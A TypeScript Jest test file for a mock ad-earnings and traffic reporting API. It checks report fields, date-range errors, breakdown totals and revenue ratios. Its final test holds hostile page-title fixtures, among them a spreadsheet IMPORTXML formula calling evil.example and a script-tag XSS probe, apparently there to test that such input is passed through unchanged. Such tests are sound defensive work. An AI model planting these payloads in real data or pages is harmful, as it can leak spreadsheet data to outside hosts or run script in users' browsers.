import { REPORTS } from '../../src/catalog/reports';
import { harness, range } from './helpers';

const OCT = range('2026-10-01', '2026-10-31');
const DATED = REPORTS.filter((r) => r.dateFamily !== null);
const path = (key: string, site = 'site-1') => REPORTS.find((r) => r.key === key)!.path.replace('{siteId}', site);

describe('every dated report', () => {
  test('the catalog has the 13 dated keys', () => {
    expect(DATED).toHaveLength(13);
  });

  test.each(DATED.map((r) => [r.key, r] as const))('%s returns rows carrying every catalog field', (_key, spec) => {
    const h = harness();
    const res = h.json(`${path(spec.key)}?${OCT}`);
    expect(res.status).toBe(200);
    const rows = Array.isArray(res.body.data) ? res.body.data : [res.body.data];
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows.slice(0, 50)) {
      for (const column of spec.columns) {
        expect(row).toHaveProperty(column.field);
        if (column.scored) expect(row[column.field]).toEqual({ value: expect.anything(), score: expect.anything() });
      }
    }
    if (spec.paginated) expect(res.body.meta.page).toBeDefined();
    else if (spec.key !== 'traffic/summary') expect(res.body.meta.recordCount).toBe(rows.length);
  });

  test('traffic/summary is one object with extra analytics fields', () => {
    const data = harness().json(`${path('traffic/summary')}?${OCT}`).body.data;
    expect(Array.isArray(data)).toBe(false);
    expect(data).toMatchObject({ ga4DataAvailable: true, ga4StartDate: '2024-03-01' });
  });

  test('earnings and video/earnings are daily series, one row a day', () => {
    const h = harness();
    for (const key of ['earnings', 'video/earnings']) {
      const rows = h.json(`${path(key)}?${OCT}`).body.data;
      expect(rows).toHaveLength(31);
      expect(rows[0].date).toBe('2026-10-01');
      expect(rows[30].date).toBe('2026-10-31');
    }
  });

  test('pages/performance rows look like the contract example', () => {
    const row = harness().json(`${path('pages/performance')}?${OCT}&page[size]=1`).body.data[0];
    expect(Object.keys(row)).toEqual([
      'pageUrl',
      'siteUrl',
      'impressions',
      'earnings',
      'pageviews',
      'pageviewsPercent',
      'rpm',
      'viewability',
      'cpm',
      'impressionsPerPageview',
      'modifiedDate',
      'author',
    ]);
    expect(row.pageUrl).toMatch(/^\//);
    expect(row.siteUrl).toBe('https://example-kitchen.com');
    expect(row).not.toHaveProperty('sessions');
  });
});

describe('dates', () => {
  const h = harness();
  const code = (q: string, key = 'earnings') => {
    const res = h.json(`${path(key)}?${q}`);
    return [res.status, res.body.internalCode, res.body.message] as const;
  };

  test.each([
    ['missing', 'startDate=2026-10-01'],
    ['malformed', range('2026-10-1', '2026-10-31')],
    ['impossible date', range('2026-02-30', '2026-03-01')],
    ['reversed', range('2026-10-31', '2026-10-01')],
    ['before the start', range('2023-12-31', '2024-01-05')],
    ['after the earnings end', range('2026-11-01', '2026-11-20')],
  ])('%s -> 400 invalid_date_range naming the allowed range', (_name, q) => {
    const [status, internalCode, message] = code(q);
    expect(status).toBe(400);
    expect(internalCode).toBe('invalid_date_range');
    expect(message).toContain('2024-01-01 to 2026-11-19');
  });

  test('traffic reports use the analytics bounds, one day longer', () => {
    expect(code(range('2026-11-20', '2026-11-20'), 'traffic/summary')[0]).toBe(200);
    expect(code(range('2026-11-20', '2026-11-20'), 'devices/performance')[0]).toBe(400);
    expect(code(range('2026-11-21', '2026-11-21'), 'traffic/summary')[0]).toBe(400);
  });

  test('the inactive site rejects every dated report', () => {
    const res = h.json(`${path('earnings', 'site-old')}?${range('2025-01-01', '2025-01-02')}`);
    expect(res.status).toBe(400);
    expect(res.body.internalCode).toBe('invalid_date_range');
  });
});

describe('consistency', () => {
  const h = harness();
  const rows = (key: string, q = OCT, site = 'site-1') => h.json(`${path(key, site)}?${q}`).body.data;
  const sum = (list: Array<Record<string, number>>, field: string) => list.reduce((a, r) => a + r[field], 0);
  const cents = (x: number) => Math.round(x * 100);

  test('every breakdown sums to the same earnings, sessions and pageviews', () => {
    const daily = rows('earnings');
    const earnings = sum(daily, 'earnings');
    const sessions = sum(daily, 'sessions');
    const pageviews = sum(daily, 'pageviews');
    for (const key of ['devices/performance', 'traffic-sources/performance', 'countries/performance', 'categories/performance']) {
      const r = rows(key);
      expect(cents(sum(r, 'earnings'))).toBe(cents(earnings));
      expect(sum(r, 'sessions')).toBe(sessions);
      expect(sum(r, 'pageviews')).toBe(pageviews);
    }
    const adUnits = rows('ad-units/performance');
    expect(cents(sum(adUnits, 'earnings'))).toBe(cents(earnings));
  });

  test('traffic breakdowns sum to the summary', () => {
    const summary = rows('traffic/summary');
    for (const key of ['traffic/by-device', 'traffic/by-source', 'traffic/by-country']) {
      const r = rows(key);
      expect(sum(r, 'sessions')).toBe(summary.sessions);
      expect(sum(r, 'pageviews')).toBe(summary.pageviews);
    }
  });

  test('page reports split the range totals over the pages', () => {
    const pages = h.json(`${path('pages/performance')}?${OCT}&page[size]=500&page[number]=1`).body;
    const all = [...pages.data];
    for (let n = 2; n <= pages.meta.page.last; n++)
      all.push(...h.json(`${path('pages/performance')}?${OCT}&page[size]=500&page[number]=${n}`).body.data);
    expect(all).toHaveLength(1203);
    const daily = rows('earnings');
    expect(cents(sum(all, 'earnings'))).toBe(cents(sum(daily, 'earnings')));
    expect(sum(all, 'pageviews')).toBe(sum(daily, 'pageviews'));
    expect(sum(all, 'pageviewsPercent')).toBeCloseTo(100, 1);
    expect(new Set(all.map((r) => r.pageUrl)).size).toBe(1203);
  });

  test('a range is the sum of its days', () => {
    const month = rows('devices/performance');
    const days = rows('earnings');
    const first = rows('devices/performance', range('2026-10-01', '2026-10-15'));
    const second = rows('devices/performance', range('2026-10-16', '2026-10-31'));
    expect(cents(sum(first, 'earnings') + sum(second, 'earnings'))).toBe(cents(sum(month, 'earnings')));
    expect(sum(first, 'sessions') + sum(second, 'sessions')).toBe(sum(days, 'sessions'));
  });

  test('ratios match their parts to the cent', () => {
    for (const key of [
      'earnings',
      'devices/performance',
      'traffic-sources/performance',
      'countries/performance',
      'categories/performance',
    ]) {
      for (const r of rows(key)) {
        if (r.sessions === 0) {
          expect(r.rpm).toBeNull();
          continue;
        }
        expect(Math.abs(r.rpm - (r.earnings / r.sessions) * 1000)).toBeLessThanOrEqual(0.005 + 1e-9);
        expect(Math.abs(r.rps - r.earnings / r.sessions)).toBeLessThanOrEqual(0.00005 + 1e-9);
        if ('pageRpm' in r) expect(Math.abs(r.pageRpm - (r.earnings / r.pageviews) * 1000)).toBeLessThanOrEqual(0.005 + 1e-9);
        if ('cpm' in r && r.impressions > 0)
          expect(Math.abs(r.cpm - (r.earnings / r.impressions) * 1000)).toBeLessThanOrEqual(0.005 + 1e-9);
        if ('pps' in r) expect(Math.abs(r.pps - r.pageviews / r.sessions)).toBeLessThanOrEqual(0.005 + 1e-9);
        expect(Number.isInteger(Math.round(r.earnings * 100 * 1e6) / 1e6)).toBe(true);
      }
    }
  });

  test('some zero-traffic rows have rpm null', () => {
    expect(rows('countries/performance').find((r: { country: string }) => r.country === 'Antarctica')).toMatchObject({
      sessions: 0,
      earnings: 0,
      rpm: null,
    });
    expect(rows('categories/performance').find((r: { category: string }) => r.category === 'Uncategorized')).toMatchObject({
      sessions: 0,
      rpm: null,
    });
    const last = h.json(`${path('pages/performance')}?${OCT}&page[size]=3&sort=-pageviews&page[number]=401`).body.data;
    expect(last.length).toBeGreaterThan(0);
    expect(last[last.length - 1]).toMatchObject({ pageviews: 0, rpm: null });
  });

  test('numbers are plausible: pages per session above 1, bounce rate a percentage', () => {
    for (const r of rows('traffic/by-device')) {
      expect(r.pagesPerSession).toBeGreaterThan(1);
      expect(r.bounceRate).toBeGreaterThan(20);
      expect(r.bounceRate).toBeLessThan(90);
    }
  });

  test('the same seed gives the same data; another seed differs', () => {
    const a = harness(7).json(`${path('earnings')}?${OCT}`).body.data;
    const b = harness(7).json(`${path('earnings')}?${OCT}`).body.data;
    const c = harness(8).json(`${path('earnings')}?${OCT}`).body.data;
    expect(a).toEqual(b);
    expect(a).not.toEqual(c);
  });

  test('hostile and non-Latin page titles and URLs are served as-is', () => {
    const titles = h.json(`${path('traffic/pages')}?${OCT}&page[size]=100`).body.data.map((r: { pageTitle: string }) => r.pageTitle);
    for (const t of [
      '=IMPORTXML("http://evil.example","//a")',
      '+1 cheap trick',
      '@mention',
      '<script>alert(1)</script> tips',
      'Crème brûlée 🍮',
      '日本のラーメン',
    ]) {
      expect(titles).toContain(t);
    }
    const urls = h.json(`${path('pages/performance')}?${OCT}&page[size]=100`).body.data.map((r: { pageUrl: string }) => r.pageUrl);
    expect(urls).toContain('=IMPORTXML("http://evil.example","//a")');
  });
});
